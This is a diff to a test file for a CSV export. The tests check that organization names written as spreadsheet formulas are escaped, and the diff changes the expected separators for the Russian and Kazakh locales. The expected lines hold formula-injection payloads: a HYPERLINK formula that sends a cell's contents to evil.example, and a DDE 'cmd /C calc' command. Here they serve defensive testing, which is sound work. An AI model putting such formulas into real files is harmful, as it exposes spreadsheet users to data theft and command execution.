@@ -46,8 +46,9 @@ describe("the regional export of an organization renamed to a formula", () => {
       return (file.body as string).replace(/^\uFEFF/, "").split("\r\n");
     };
     expect((await csvLines("en")).find((line) => line.includes("HYPERLINK"))).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&B2,""Details""\)",1,/);
-    expect((await csvLines("ru")).find((line) => line.includes("SUM"))).toMatch(/^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0,1,/);
-    expect((await csvLines("kk")).find((line) => line.includes("701"))).toMatch(/^'\+7 701 000 00 00,1,/);
+    // Kazakh and Russian files are split by ";" (Excel's list separator in those locales)
+    expect((await csvLines("ru")).find((line) => line.includes("SUM"))).toMatch(/^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0;1;/);
+    expect((await csvLines("kk")).find((line) => line.includes("701"))).toMatch(/^'\+7 701 000 00 00;1;/);
     // no line of any export starts a formula
     for (const locale of ["kk", "ru", "en"] as const) for (const line of await csvLines(locale)) expect(line).not.toMatch(/^"?[=+\-@\t\r]/);
 
